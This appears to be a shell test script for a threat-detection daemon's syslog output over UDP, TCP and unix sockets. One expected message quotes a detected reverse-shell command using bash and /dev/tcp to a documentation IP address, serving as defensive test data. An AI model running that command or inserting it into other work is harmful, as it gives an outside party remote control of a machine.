#!/bin/bash
# Syslog sinks (RFC 5424) against local receivers over UDP, TCP (octet counting) and a unix
# datagram socket: every record arrives once on each, every message is valid RFC 5424, the
# three transports carry the same messages, and the reverse shell's message is exact.
. "$(dirname "$0")/lib.sh"
need_jq
rules=$(stdlib_wtb)
EX="$WT_SRCDIR/examples/workspace-session.jsonl"
CHECK="python3 $WT_SRCDIR/testsuite/syslog-check.py"
start_receiver udp udp "$TMP/udp.log"; UDP=$RECV_PORT
start_receiver tcp tcp "$TMP/tcp.log"; TCP=$RECV_PORT
python3 "$WT_SRCDIR/testsuite/sink-receiver.py" unix "$TMP/log.sock" "$TMP/unix.log" &
spawned $!
wait_for 20 test -S "$TMP/log.sock" || { echo "unix receiver did not start"; exit 99; }
"$WTD" --rules "$rules" --replay "$EX" --sink "syslog=udp://127.0.0.1:$UDP?hostname=test-host" \
	--sink "syslog=tcp://127.0.0.1:$TCP?hostname=test-host&facility=auth" \
	--sink "syslog=unix:$TMP/log.sock#hostname=test-host&app_name=wt" >"$TMP/out" 2>"$TMP/err" &
pid=$!
wait $pid || fail "worktraced exit status $?"
n=$(grep -c '' "$TMP/out")
for i in 0 1 2; do
	grep -q " sink${i}_syslog_delivered=$n sink${i}_syslog_retried=0 sink${i}_syslog_failed=0 sink${i}_syslog_dropped=0 sink${i}_syslog_lost=0" "$TMP/err" ||
		fail "sink$i counters: $(grep -o " sink${i}_[a-z_]*=[0-9]*" "$TMP/err" | tr '\n' ' ')"
done
pass "$n records delivered on each of udp, tcp and unix"
udp_all() { [ "$(grep -c '' "$TMP/udp.log" 2>/dev/null)" -eq "$n" ]; }
wait_for 10 udp_all || true # datagrams in flight when worktraced exits
$CHECK "$TMP/udp.log" >"$TMP/udp.msgs" && pass "udp: $(grep -c '' "$TMP/udp.msgs") valid RFC 5424 messages" || fail "udp messages invalid"
$CHECK --octet-counting "$TMP/tcp.log" >"$TMP/tcp.msgs" && pass "tcp: octet-counted frames of valid RFC 5424 messages" || fail "tcp messages invalid"
$CHECK "$TMP/unix.log" >"$TMP/unix.msgs" && pass "unix: valid RFC 5424 messages" || fail "unix messages invalid"
[ "$(grep -c '' "$TMP/udp.msgs")" -eq "$n" ] && [ "$(grep -c '' "$TMP/tcp.msgs")" -eq "$n" ] && [ "$(grep -c '' "$TMP/unix.msgs")" -eq "$n" ] &&
	pass "one message per record on each transport" || fail "message counts: $(wc -l "$TMP"/*.msgs)"
# same messages but for PRI (facility) and APP-NAME
norm() { sed -E 's/^<[0-9]+>1 ([^ ]+ [^ ]+) [^ ]+ /<P>1 \1 APP /' "$1"; }
cmp -s <(norm "$TMP/udp.msgs") <(norm "$TMP/tcp.msgs") && cmp -s <(norm "$TMP/udp.msgs") <(norm "$TMP/unix.msgs") &&
	pass "the three transports carry the same messages" || fail "transports differ"
want=$(printf '<130>1 2026-10-14T10:51:16.530876Z test-host worktraced %s threat [worktrace@32473 rule="execution.reverse_shell_dev_tcp" severity="critical" pipeline="direct" workspace="carol-web" owner="carol@example.com" namespace="ws-carol" pod="ws-carol-c41a9e-0" node="gke-devpool-3b9e1c-node-7" mitre="T1059.004" binary="/bin/bash" count="1" first_seen="2026-10-14T10:51:16.530876629Z" last_seen="2026-10-14T10:51:16.530876629Z" input_seq="227"] \xef\xbb\xbfreverse shell via /dev/tcp: /bin/bash -c "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1" (parent /tmp/.x.sh /tmp/.x.sh) in carol-web' "$pid")
got=$(grep -F 'input_seq="227"]' "$TMP/udp.msgs" | grep -F 'rule="execution.reverse_shell_dev_tcp"')
[ "$got" = "$want" ] && pass "udp: exact message for the reverse shell (local0.crit, event time in µs, structured data, BOM)" ||
	{ fail "reverse shell message"; diff <(echo "$want") <(echo "$got"); }
grep -q '^<34>1 2026-10-14T10:51:16.530876Z test-host worktraced ' "$TMP/tcp.msgs" && pass "tcp: facility=auth gives PRI 34 for critical" || fail "tcp facility"
grep -q '^<130>1 [^ ]* test-host wt ' "$TMP/unix.msgs" && pass "unix: app_name option" || fail "unix app_name"
# a syslog TCP port that refuses connections: retried, then failed at the flush deadline
start_receiver closed closed -; DEAD=$RECV_PORT
"$WTD" --rules "$rules" --replay "$EX" --sink "syslog=tcp://127.0.0.1:$DEAD?backoff_ms=50&backoff_max=1" --sink-flush-timeout 1 >"$TMP/out2" 2>"$TMP/err2"
cmp -s <(sort "$TMP/out") <(sort "$TMP/out2") && grep -q " sink0_syslog_delivered=0 sink0_syslog_retried=[1-9][0-9]* sink0_syslog_failed=$n sink0_syslog_dropped=0 sink0_syslog_lost=$n" "$TMP/err2" &&
	pass "dead TCP receiver: records complete on stdout, $n failed and counted" || fail "dead tcp: $(grep -o ' sink0.*' "$TMP/err2")"
finish
